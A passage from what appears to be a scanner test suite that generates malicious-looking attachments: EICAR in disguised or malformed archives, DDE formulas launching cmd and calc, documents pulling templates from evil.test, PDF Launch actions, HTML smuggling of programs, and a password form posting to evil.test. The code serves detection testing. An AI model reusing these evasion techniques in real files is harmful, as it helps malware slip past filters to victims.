STORED = zip_local(b"a.com", EICAR)
CENTRAL = zip_central(b"a.com", EICAR, 0)
SIMPLE = zipped({"a.com": EICAR}, zipfile.ZIP_STORED)
DEFLATED = zipped({"a.com": EICAR * 3})
PACKED = gzip.compress(EICAR)


def zip64() -> bytes:
    octets = io.BytesIO()
    with zipfile.ZipFile(octets, "w") as archive, archive.open("a.com", "w", force_zip64=True) as member:
        member.write(EICAR * 3)
    return octets.getvalue()


def tar(name: str = "a.com", data: bytes = EICAR, form: int = tarfile.PAX_FORMAT, **more: object) -> bytes:
    octets = io.BytesIO()
    with tarfile.open(fileobj=octets, mode="w", format=form) as archive:
        member = tarfile.TarInfo(name)
        member.size = len(data)
        for key, value in more.items():
            setattr(member, key, value)
        archive.addfile(member, io.BytesIO(data))
    return octets.getvalue()


for name, file, make in (
    ("zip", "a.zip", lambda: SIMPLE),
    ("zip in zip", "a.zip", lambda: zipped({"b.zip": SIMPLE})),
    ("zip nine deep", "a.zip", lambda: nested_zip(9)),
    ("zip seven deep", "a.zip", lambda: nested_zip(7)),
    ("zip without an extension", "a", lambda: SIMPLE),
    ("zip as .jpg", "a.jpg", lambda: SIMPLE),
    ("zip as .docx", "a.docx", lambda: DEFLATED),
    ("zip64", "a.zip", zip64),
    ("zip with data descriptor", "a.zip", streamed_zip),
    ("zip with data descriptor, stored", "a.zip", lambda: streamed_zip(zipfile.ZIP_STORED)),
    ("zip without a directory", "a.zip", lambda: STORED),
    ("zip with a local list alone and an empty directory", "a.zip", lambda: STORED + zip_end((), len(STORED))),
    (
        "zip whose directory names another",
        "a.zip",
        lambda: STORED + zip_end((zip_central(b"a.txt", EICAR, 0),), len(STORED)),
    ),
    ("zip whose local sizes are zero", "a.zip", lambda: changed(SIMPLE, (18, bytes(8)))),
    ("zip whose central sizes are zero", "a.zip", lambda: changed(SIMPLE, (SIMPLE.find(b"PK\1\2") + 20, bytes(8)))),
    (
        "zip whose sizes all are zero",
        "a.zip",
        lambda: changed(SIMPLE, (18, bytes(8)), (SIMPLE.find(b"PK\1\2") + 20, bytes(8))),
    ),
    (
        "zip whose sizes are small",
        "a.zip",
        lambda: changed(SIMPLE, (18, b"\5\0\0\0\5\0\0\0"), (SIMPLE.find(b"PK\1\2") + 20, b"\5\0\0\0\5\0\0\0")),
    ),
    (
        "zip whose deflated size is small",
        "a.zip",
        lambda: changed(DEFLATED, (18, b"\5\0\0\0"), (DEFLATED.find(b"PK\1\2") + 20, b"\5\0\0\0")),
    ),
    (
        "zip with a wrong checksum",
        "a.zip",
        lambda: changed(SIMPLE, (14, b"abcd"), (SIMPLE.find(b"PK\1\2") + 16, b"abcd")),
    ),
    ("zip whose method differs: stored said to be deflated", "a.zip", lambda: changed(SIMPLE, (8, b"\x08"))),
    ("zip whose central method differs", "a.zip", lambda: changed(SIMPLE, (SIMPLE.find(b"PK\1\2") + 10, b"\x08"))),
    (
        "zip of an unknown method",
        "a.zip",
        lambda: changed(SIMPLE, (8, b"\x63"), (SIMPLE.find(b"PK\1\2") + 10, b"\x63")),
    ),
    ("zip deflate64", "a.zip", lambda: changed(DEFLATED, (8, b"\x09"), (DEFLATED.find(b"PK\1\2") + 10, b"\x09"))),
    ("zip zstd", "a.zip", lambda: changed(SIMPLE, (8, b"\x5d"), (SIMPLE.find(b"PK\1\2") + 10, b"\x5d"))),
    ("zip shrunk", "a.zip", lambda: changed(SIMPLE, (8, b"\x01"), (SIMPLE.find(b"PK\1\2") + 10, b"\x01"))),
    ("zip bzip2", "a.zip", lambda: zipped({"a.com": EICAR}, zipfile.ZIP_BZIP2)),
    ("zip lzma", "a.zip", lambda: zipped({"a.com": EICAR}, zipfile.ZIP_LZMA)),
    ("zip encrypted", "a.zip", lambda: encrypted_zip("a.com", EICAR)),
    ("zip encrypted by its central flag alone", "a.zip", lambda: changed(SIMPLE, (SIMPLE.find(b"PK\1\2") + 8, b"\1"))),
    ("zip encrypted by its local flag alone", "a.zip", lambda: changed(SIMPLE, (6, b"\1"))),
    ("zip behind text", "a.zip", lambda: b"hello\r\n" * 50 + SIMPLE),
    ("zip behind a picture", "a.png", lambda: PNG + SIMPLE),
    ("zip behind a picture, named zip", "a.zip", lambda: PNG + SIMPLE),
    ("zip behind a GIF", "a.gif", lambda: GIF + SIMPLE),
    ("zip behind a JPEG", "a.jpg", lambda: JPEG + SIMPLE),
    ("zip behind a PDF", "a.pdf", lambda: PDF + SIMPLE),
    ("zip behind a program", "a.exe", lambda: PROGRAM + SIMPLE),
    ("zip with text behind it", "a.zip", lambda: SIMPLE + b"x" * 1000),
    ("zip with 70,000 octets behind it", "a.zip", lambda: SIMPLE + b"x" * 70_000),
    ("zip with a long comment", "a.zip", lambda: SIMPLE[:-2] + struct.pack("<H", 65535) + b"c" * 65535),
    ("zip behind another zip", "a.zip", lambda: zipped({"b.txt": b"hello"}) + SIMPLE),
    ("zip before another zip", "a.zip", lambda: SIMPLE + zipped({"b.txt": b"hello"})),
    ("zip before another zip, ends fixed", "a.zip", lambda: SIMPLE + shifted(zipped({"b.txt": b"hello"}), len(SIMPLE))),
    ("zip with two ends of a directory", "a.zip", lambda: SIMPLE + SIMPLE[SIMPLE.find(b"PK\5\6") :][:22]),
    ("zip split, first piece", "a.z01", lambda: b"PK\7\x08" + STORED[:60]),
    ("zip split, first piece as .zip.001", "a.zip.001", lambda: SIMPLE[:80]),
    ("zip split, second piece", "a.zip.002", lambda: SIMPLE[80:]),
    ("zip split mark", "a.zip", lambda: b"PK00" + shifted(SIMPLE, 0)),
    ("zip cut off", "a.zip", lambda: SIMPLE[:-30]),
    ("zip with the same name twice", "a.zip", lambda: zipfile_of(("a.txt", b"hello"), ("a.txt", EICAR))),
    ("zip member that is a directory with content", "a.zip", lambda: zipfile_of(("a/", EICAR))),
    ("zip member with a slash in front", "a.zip", lambda: zipfile_of(("/a.txt", EICAR))),
    ("zip member that climbs", "a.zip", lambda: zipfile_of(("../../a.js", SCRIPT))),
    (
        "zip member with NUL in its name",
        "a.zip",
        lambda: (
            zip_local(b"a.js\0.txt", SCRIPT)
            + zip_end((zip_central(b"a.js\0.txt", SCRIPT, 0),), len(zip_local(b"a.js\0.txt", SCRIPT)))
        ),
    ),
    (
        "zip member without a name",
        "a.zip",
        lambda: zip_local(b"", EICAR) + zip_end((zip_central(b"", EICAR, 0),), len(zip_local(b"", EICAR))),
    ),
    ("zip member script", "a.zip", lambda: zipped({"invoice.js": SCRIPT})),
    ("zip member script with a trailing dot", "a.zip", lambda: zipped({"invoice.js.": SCRIPT})),
    ("zip member program", "a.zip", lambda: zipped({"invoice": PROGRAM})),
    (
        "zip member shortcut",
        "a.zip",
        lambda: zipped({"a.lnk": b"\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)}),
    ),
    ("zip that holds itself in name", "a.zip", lambda: zipped({"a.zip": zipped({"a.zip": zipped({"a.js": SCRIPT})})})),
    ("gzip", "a.gz", lambda: PACKED),
    ("gzip of a script with its name in it", "a.gz", lambda: gzip_named(b"a.js", SCRIPT)),
    ("gzip of a script, name outside", "a.js.gz", lambda: gzip.compress(SCRIPT)),
    ("gzip without an extension", "a", lambda: PACKED),
    ("gzip of several members", "a.gz", lambda: gzip.compress(b"hello") + PACKED),
    ("gzip with zeros between members", "a.gz", lambda: gzip.compress(b"hello") + bytes(512) + PACKED),
    ("gzip with rubbish behind it", "a.gz", lambda: PACKED + b"rubbish"),
    ("gzip with a virus behind it", "a.gz", lambda: gzip.compress(b"hello") + EICAR),
    ("gzip with wrong checksum", "a.gz", lambda: PACKED[:-8] + b"\0" * 8),
    ("gzip cut off", "a.gz", lambda: PACKED[:-12]),
    ("gzip of gzip of gzip", "a.gz", lambda: gzip.compress(gzip.compress(PACKED))),
    ("gzip ten deep", "a.gz", lambda: nested_gzip(10)),
    ("bzip2", "a.bz2", lambda: bz2.compress(EICAR)),
    ("bzip2 of two streams", "a.bz2", lambda: bz2.compress(b"x") + bz2.compress(EICAR)),
    ("xz", "a.xz", lambda: lzma.compress(EICAR)),
    ("lzma alone", "a.lzma", lambda: lzma.compress(EICAR, lzma.FORMAT_ALONE)),
    ("xz of two streams", "a.xz", lambda: lzma.compress(b"x") + lzma.compress(EICAR)),
    ("tar", "a.tar", tar),
    ("tar old", "a.tar", lambda: tar(form=tarfile.USTAR_FORMAT)),
    ("tar gnu", "a.tar", lambda: tar(form=tarfile.GNU_FORMAT)),
    ("tar with a pax name", "a.tar", lambda: tar(name="x" * 300 + ".js", data=SCRIPT)),
    ("tar with a gnu long name", "a.tar", lambda: tar(name="x" * 300 + ".js", data=SCRIPT, form=tarfile.GNU_FORMAT)),
    ("tar contiguous member", "a.tar", lambda: tar(type=tarfile.CONTTYPE)),
    ("tar member of an unknown type", "a.tar", lambda: tar(type=b"Z")),
    ("tar member that says it is a directory", "a.tar", lambda: tar(type=tarfile.DIRTYPE)),
    ("tar member that says it is a link", "a.tar", lambda: tar(type=tarfile.LNKTYPE, linkname="x")),
    ("tar behind zeros", "a.tar", lambda: tar()[:1536] + bytes(1024) + tar()),
    ("tar two, one behind the other", "a.tar", lambda: tar("a.txt", b"hello") + tar()),
    ("tar.gz", "a.tar.gz", lambda: gzip.compress(tar())),
    ("tar.gz as .tgz with script", "a.tgz", lambda: gzip.compress(tar("a.vbs", SCRIPT))),
    ("tar.bz2", "a.tar.bz2", lambda: bz2.compress(tar())),
    ("tar.xz", "a.tar.xz", lambda: lzma.compress(tar())),
    ("tar with a damaged sum", "a.tar", lambda: changed(tar(form=tarfile.USTAR_FORMAT), (148, b"0000000\0"))),
    ("cpio", "a.cpio", lambda: archived("cpio", None, {"a.com": EICAR})),
    ("ar", "a.a", lambda: archived("ar_bsd", None, {"a.com": EICAR})),
    ("7z", "a.7z", lambda: archived("7zip", None, {"a.com": EICAR})),
    ("7z with 7z extension off", "a.jpg", lambda: archived("7zip", None, {"a.com": EICAR})),
    ("7z behind a picture", "a.png", lambda: PNG + archived("7zip", None, {"a.com": EICAR})),
    ("7z behind text", "a.7z", lambda: b"hello" * 100 + archived("7zip", None, {"a.com": EICAR})),
    ("7z cut off", "a.7z", lambda: archived("7zip", None, {"a.com": EICAR})[:-20]),
    ("iso", "a.iso", lambda: archived("iso9660", None, {"a.com": EICAR})),
    ("iso as .img", "a.img", lambda: archived("iso9660", None, {"a.txt": b"hello"})),
    ("iso as .pdf", "a.pdf", lambda: archived("iso9660", None, {"a.txt": b"hello"})),
    ("xar", "a.xar", lambda: archived("xar", None, {"a.com": EICAR})),
    ("warc", "a.warc", lambda: archived("warc", None, {"a.com": EICAR})),
    ("mtree text", "a.mtree", lambda: archived("pax", "uuencode", {"a.com": EICAR})),
    ("zstd", "a.zst", lambda: archived("raw", "zstd", {"a.com": EICAR})),
    ("tar.zst", "a.tar.zst", lambda: archived("pax", "zstd", {"a.com": EICAR})),
    ("lz4", "a.lz4", lambda: archived("raw", "lz4", {"a.com": EICAR})),
    ("lzip", "a.lz", lambda: archived("raw", "lzip", {"a.com": EICAR})),
    ("compress", "a.Z", lambda: archived("raw", "compress", {"a.com": EICAR * 20})),
    ("base64 file", "a.b64", lambda: archived("raw", "b64encode", {"a.com": EICAR})),
    ("uue file", "a.uue", lambda: uuencoded(b"a.com", EICAR)),
    ("udf", "a.iso", lambda: bytes(0x8001) + b"BEA01\1" + bytes(2042) + b"NSR02" + bytes(4000)),
    ("wim", "a.wim", lambda: b"MSWIM\0\0\0" + bytes(300)),
    ("vhd", "a.vhd", lambda: bytes(1024) + b"conectix" + bytes(504)),
    ("vhdx", "a.vhdx", lambda: b"vhdxfile" + bytes(300)),
    ("vmdk", "a.vmdk", lambda: b"KDMV" + bytes(600)),
    ("ace", "a.ace", lambda: b"\1\2\x31\0\0\0\0**ACE**" + bytes(100)),
    ("arj", "a.arj", lambda: b"\x60\xea\x29\0\x22\x0b\1\2" + bytes(100)),
    ("lha named .lzh", "a.lzh", lambda: b"\x21\0-lh0-" + bytes(100)),
    ("zoo", "a.zoo", lambda: b"ZOO 2.10 Archive.\x1a\0\0\xdc\xa7\xc4\xfd" + bytes(60)),
    ("arc", "a.arc", lambda: b"\x1a\x02A.COM\0\0\0\0\0\0\0\0" + bytes(100)),
    ("rar piece", "a.part2.rar", lambda: b"Rar!\x1a\x07\0" + bytes(60)),
    ("rar5 rubbish", "a.rar", lambda: b"Rar!\x1a\x07\1\0" + bytes(60)),
    ("rar in unknown octets", "a.rar", lambda: bytes(range(256)) * 4),
    ("unknown octets named 7z", "a.7z", lambda: bytes(range(256)) * 4),
    ("dmg", "a.dmg", lambda: bytes(range(256)) * 40 + b"koly" + bytes(508)),
    ("squashfs", "a.squashfs", lambda: b"hsqs" + bytes(300)),
    ("program behind a picture's sign and a script's name", "a.png.js", lambda: PNG + SCRIPT),
    ("GIF that is an HTA", "a.hta", lambda: GIF + b"<script>1</script>"),
    ("GIF that is a script", "a.js", lambda: b"GIF89a=1;" + SCRIPT),
    ("JPEG that is a batch file", "a.bat", lambda: JPEG + b"\r\ncalc\r\n"),
    ("PDF that is a script", "a.js", lambda: PDF + SCRIPT),
    ("picture with a page in it, named .html", "a.html", lambda: PNG + b"<script>location='data:text/html,x'</script>"),
    ("PNG with EICAR behind", "a.png", lambda: PNG + EICAR),
    ("PDF with EICAR behind", "a.pdf", lambda: PDF + EICAR),
    ("zip bomb of overlapping members", "a.zip", lambda: overlapping()),
    ("zip of 3,000 members", "a.zip", lambda: zipfile_of(*((f"{n}.txt", b"") for n in range(3000)), ("a.com", EICAR))),
):
    trick(f"archive: {name}", partial(attached, file, make))


def shifted(data: bytes, by: int) -> bytes:
    """The same archive, its offsets moved: what stands before it belongs to it."""
    at, octets = data.find(b"PK\1\2"), bytearray(data)
    struct.pack_into("<L", octets, at + 42, by + struct.unpack_from("<L", data, at + 42)[0])
    end = data.find(b"PK\5\6")
    struct.pack_into("<L", octets, end + 16, by + struct.unpack_from("<L", data, end + 16)[0])
    return bytes(octets)


def nested_zip(levels: int) -> bytes:
    data = SIMPLE
    for _ in range(levels):
        data = zipped({"a.zip": data})
    return data


def nested_gzip(levels: int) -> bytes:
    data = EICAR
    for _ in range(levels):
        data = gzip.compress(data)
    return data


def gzip_named(name: bytes, data: bytes) -> bytes:
    packed = gzip.compress(data)
    return packed[:3] + b"\x08" + packed[4:10] + name + b"\0" + packed[10:]


def overlapping() -> bytes:
    return STORED + zip_end((CENTRAL, zip_central(b"b.com", EICAR, 0)), len(STORED))


# ── documents and pages ──

RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/x"/>'
)
WORD = b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
WORD_MACROS = (
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>%b</w:p></w:body></w:document>'


def docx(text: bytes = b"hello", more: dict[str, bytes] | None = None, word: bytes = WORD) -> bytes:
    root = (
        RELS
        + b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    return zipped(
        {
            "[Content_Types].xml": TYPES + word + b"</Types>",
            "_rels/.rels": root,
            "word/document.xml": DOCUMENT % text,
            **(more or {}),
        }
    )


def rels(kind: bytes, target: bytes, mode: bytes = b' TargetMode="External"') -> bytes:
    return (
        RELS
        + b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%b" Target="%b"%b/></Relationships>'
        % (kind, target, mode)
    )


def pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *objects,
    ]
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    return data + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, len(data))


PROGRAM64 = base64.b64encode(PROGRAM)
HTML = b"<html><body>%b</body></html>"
SMUGGLED = b"<script>var b=new Blob([Uint8Array.from(atob(%b),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='a.zip';a.click()</script>"

for name, file, make in (
    (
        "docx with a macro part",
        "a.docx",
        lambda: docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}),
    ),
    ("docm named rtf", "a.rtf", lambda: docx(word=WORD_MACROS, more={"word/vbaProject.bin": bytes(600)})),
    (
        "docx with a template from elsewhere",
        "a.docx",
        lambda: docx(more={"word/_rels/settings.xml.rels": rels(b"attachedTemplate", b"http://evil.test/a.dotm")}),
    ),
    (
        "docx with a template from elsewhere, in capitals",
        "a.docx",
        lambda: docx(
            more={
                "word/_rels/settings.xml.rels": rels(
                    b"attachedTemplate", b"HTTP://evil.test/a.dotm", b' targetmode="external" TargetMode="External"'
                )
            }
        ),
    ),
    (
        "docx with an OLE object from elsewhere",
        "a.docx",
        lambda: docx(
            more={
                "word/_rels/document.xml.rels": rels(b"oleObject", b"mhtml:http://evil.test/a!x-usc:http://evil.test/a")
            }
        ),
    ),
    (
        "docx with a DDE field",
        "a.docx",
        lambda: docx(b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'),
    ),
    (
        "docx with a DDE field in pieces",
        "a.docx",
        lambda: docx(
            b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ),
    ("docx with a program in it", "a.docx", lambda: docx(more={"word/embeddings/oleObject1.bin": PROGRAM})),
    ("docx with EICAR in a picture", "a.docx", lambda: docx(more={"word/media/image1.png": EICAR})),
    ("docx with an embedded page", "a.docx", lambda: docx(more={"word/afchunk.mht": WHOLE})),
    ("docx encrypted", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    (
        "xml document with macros",
        "a.xml",
        lambda: (
            b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="x" w:macrosPresent="yes"><w:binData w:name="editdata.mso">'
            + E
            + b"</w:binData></w:wordDocument>"
        ),
    ),
    ("csv with DDE", "a.csv", lambda: b"name,amount\r\n=cmd|' /C calc'!A0,5\r\n"),
    ("csv with DDE behind a plus", "a.csv", lambda: b"name,amount\r\n+cmd|' /C calc'!A0,5\r\n"),
    ("csv with DDE in quotes", "a.csv", lambda: b"name,amount\r\n\"=cmd|' /C calc'!A0\",5\r\n"),
    ("csv with DDE of powershell", "a.csv", lambda: b"a;b\r\n@SUM(1+1)*powershell|'-nop'!A0;5\r\n"),
    (
        "slk with a macro",
        "a.slk",
        lambda: b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("calc.exe")\r\nE\r\n',
    ),
    (
        "rtf with an equation",
        "a.rtf",
        lambda: (
            b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata "
            + binascii.hexlify(b"\1\5\0\0\2\0\0\0\x0b\0\0\0Equation.3\0" + bytes(40))
            + b"}}}"
        ),
    ),
    (
        "rtf with a broken head",
        "a.doc",
        lambda: (
            b"{\\rt{\\object\\objemb{\\*\\objdata "
            + binascii.hexlify(
                b"\1\5\0\0\2\0\0\0\x08\0\0\0Package\0" + bytes(8) + struct.pack("<L", len(PROGRAM)) + PROGRAM
            )
            + b"}}}"
        ),
    ),
    (
        "rtf with a program in odd hex",
        "a.rtf",
        lambda: (
            b"{\\rtf1{\\object{\\*\\objdata 01050000{\\foo}02000000\r\n08000000"
            + binascii.hexlify(b"Package\0" + bytes(8) + struct.pack("<L", len(PROGRAM)) + PROGRAM).replace(
                b"4d5a", b"4 d\r\n5{\\*\\x y}a"
            )
            + b"}}}"
        ),
    ),
    ("rtf with a template from elsewhere", "a.rtf", lambda: b"{\\rtf1{\\*\\template http://evil.test/a.dotm}hello}"),
    (
        "rtf with a template in unicode",
        "a.rtf",
        lambda: b"{\\rtf1{\\*\\template " + b"".join(b"\\u%d?" % ord(c) for c in "http://evil.test/a") + b"}hello}",
    ),
    ("pdf that starts a program", "a.pdf", lambda: pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("pdf that starts a program, name spelled", "a.pdf", lambda: pdf(catalog=b"/OpenAction<</S/#4caunch/F(cmd.exe)>>")),
    ("pdf with script at opening", "a.pdf", lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    (
        "pdf with script in its names",
        "a.pdf",
        lambda: pdf(catalog=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"),
    ),
    (
        "pdf with a program in it",
        "a.pdf",
        lambda: pdf(
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length %d>>stream\n%b\nendstream" % (len(PROGRAM), PROGRAM),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        ),
    ),
    (
        "pdf with EICAR in a packed stream",
        "a.pdf",
        lambda: pdf(
            b"<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
            % (len(zlib.compress(EICAR)), zlib.compress(EICAR))
        ),
    ),
    ("pdf behind rubbish", "a.pdf", lambda: b"rubbish\n" * 20 + pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("pdf behind a picture", "a.pdf", lambda: PNG + pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("pdf without a table", "a.pdf", lambda: pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>").partition(b"xref")[0]),
    ("html attachment with script", "a.html", lambda: HTML % b"<script>location='http://evil.test'</script>"),
    (
        "html attachment with a password form",
        "a.html",
        lambda: HTML % b"<form action=http://evil.test><input type=password></form>",
    ),
    ("html that smuggles", "a.html", lambda: HTML % (SMUGGLED % (b"'" + PROGRAM64 + b"'"))),
    (
        "html that smuggles a split text",
        "a.html",
        lambda: (
            HTML % (SMUGGLED % b"+".join(b"'" + PROGRAM64[at : at + 20] + b"'" for at in range(0, len(PROGRAM64), 20)))
        ),
    ),
    (
        "html that smuggles a text backwards",
        "a.html",
        lambda: HTML % (SMUGGLED % (b"'" + PROGRAM64[::-1] + b"'.split('').reverse().join('')")),
    ),
    (
        "html that smuggles numbers",
        "a.html",
        lambda: (
            HTML
            % (b"<script>x=[" + b",".join(b"%d" % o for o in PROGRAM) + b"];b=new Blob([new Uint8Array(x)])</script>")
        ),
    ),
    (
        "html that smuggles by document.write",
        "a.html",
        lambda: HTML % b"<script>document.write(unescape('%3Cscript%3Ealert(1)%3C/script%3E'))</script>",
    ),
    ("html in UTF-16", "a.html", lambda: (HTML % b"<script>1</script>").decode().encode("utf-16")),
    ("html in UTF-16 without a mark", "a.html", lambda: (HTML % b"<script>1</script>").decode().encode("utf-16-be")),
    ("html with NUL", "a.html", lambda: HTML % b"<scr\0ipt>alert(1)</scr\0ipt>"),
    ("html with a handler", "a.html", lambda: HTML % b"<img src=x onerror=alert(1)>"),
    ("html with a link to script, spelled", "a.html", lambda: HTML % b"<a href='&#106;avascript:alert(1)'>x</a>"),
    (
        "html with a data link",
        "a.html",
        lambda: HTML % (b"<a download=a.exe href='data:application/octet-stream;base64," + PROGRAM64 + b"'>x</a>"),
    ),
    (
        "html with an iframe of data",
        "a.html",
        lambda: (
            HTML
            % (b"<iframe src='data:text/html;base64," + base64.b64encode(HTML % b"<script>1</script>") + b"'></iframe>")
        ),
    ),
    (
        "html with an iframe srcdoc",
        "a.html",
        lambda: HTML % b"<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    ),
    (
        "html with a refresh to data",
        "a.html",
        lambda: HTML % b"<meta http-equiv=refresh content='0;url=data:text/html,<script>1</script>'>",
    ),
    ("html without a name's extension", "invoice", lambda: HTML % b"<script>1</script>"),
    ("html named .txt", "a.txt", lambda: HTML % (SMUGGLED % (b"'" + PROGRAM64 + b"'"))),
    ("html named .shtml", "a.shtml", lambda: HTML % b"<script>1</script>"),
    (
        "html named .xhtml",
        "a.xhtml",
        lambda: b'<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>1</x:script></x:html>',
    ),
    (
        "html named .xml",
        "a.xml",
        lambda: b'<?xml version="1.0"?><r><x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script></r>',
    ),
    ("html in a zip", "a.zip", lambda: zipped({"a.html": HTML % b"<script>1</script>"})),
    (
        "xml with a style sheet that scripts",
        "a.xml",
        lambda: (
            b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"><m:script language="JScript">x</m:script></x:stylesheet>'
        ),
    ),
    ("svg with script", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("svg with a handler", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    (
        "svg with script by another prefix",
        "a.svg",
        lambda: b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    ),
    (
        "svg with an entity",
        "a.svg",
        lambda: (
            b'<!DOCTYPE svg [<!ENTITY x "&#x3c;script>alert(1)&#x3c;/script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
        ),
    ),
    (
        "svg packed",
        "a.svgz",
        lambda: gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ),
    ("svg named .png", "a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    (
        "svg in UTF-16",
        "a.svg",
        lambda: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'.encode("utf-16"),
    ),
    ("script with a byte order mark", "a.js", lambda: b"\xef\xbb\xbf" + SCRIPT),
    ("script in UTF-16", "a.js", lambda: SCRIPT.decode().encode("utf-16")),
    ("script in UTF-16 big end", "a.vbs", lambda: SCRIPT.decode().encode("utf-16-be")),
    ("script behind binary rubbish", "a.js", lambda: b"/*" + bytes(range(1, 32)) * 100 + b"*/" + SCRIPT),
    ("wsf without its root", "a.wsf", lambda: b"<package><job><script language='JScript'>1</script></job></package>"),
    ("hta named .txt", "a.txt", lambda: b"<html><HTA:APPLICATION id=x><script>1</script></html>"),
    ("shortcut named .pdf", "a.pdf", lambda: b"\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)),
    ("internet shortcut named .txt", "a.txt", lambda: b"[InternetShortcut]\r\nURL=file://evil.test/a.exe\r\n"),
    ("OneNote", "a.one", lambda: b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(1000)),
    ("program named .pdf", "a.pdf", lambda: PROGRAM),
    ("program named .docx", "a.docx", lambda: PROGRAM),
    ("program without a name", "a", lambda: PROGRAM),
    ("program for Linux", "a", lambda: b"\x7fELF\2\1\1" + bytes(100)),
    ("program for macOS", "a", lambda: b"\xcf\xfa\xed\xfe" + bytes(100)),
    ("program for Java", "a.dat", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100)),
    (
        "program for Java in a zip without a name",
        "a",
        lambda: zipped(
            {"META-INF/MANIFEST.MF": b"Main-Class: a\r\n", "a.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100)}
        ),
    ),
    (
        "program for Android",
        "a.zip",
        lambda: zipped({"AndroidManifest.xml": b"\3\0\x08\0" + bytes(50), "classes.dex": b"dex\n035\0" + bytes(60)}),
    ),
    ("program for old Windows", "a.dat", lambda: b"MZ" + bytes(range(3, 250)) * 3),
    ("program with its sign behind a line end", "a.exe", lambda: b"\r\n" + PROGRAM),
    ("batch file named .txt.bat", "a.txt.bat", lambda: b"calc\r\n"),
    ("shell script without an extension", "install", lambda: b"#!/bin/sh\nid\n"),
    ("PowerShell in an .xml of events", "a.ps1", lambda: b"<# x #>\r\niex 1\r\n"),
    ("vcard with a link to script", "a.vcf.js", lambda: b"BEGIN:VCARD\r\nEND:VCARD\r\n"),
):
    trick(f"document: {name}", partial(attached, file, make))

for name, body in {
    "data link to a program": b"<a download href='data:application/octet-stream;base64," + PROGRAM64 + b"'>x</a>",
    "data link to a page": b"<a href='data:text/html;base64," + base64.b64encode(HTML % b"<script>1</script>") + b"'>x</a>",
    "data link to a zip": b"<a href='data:application/zip;base64," + base64.b64encode(SIMPLE) + b"'>x</a>",
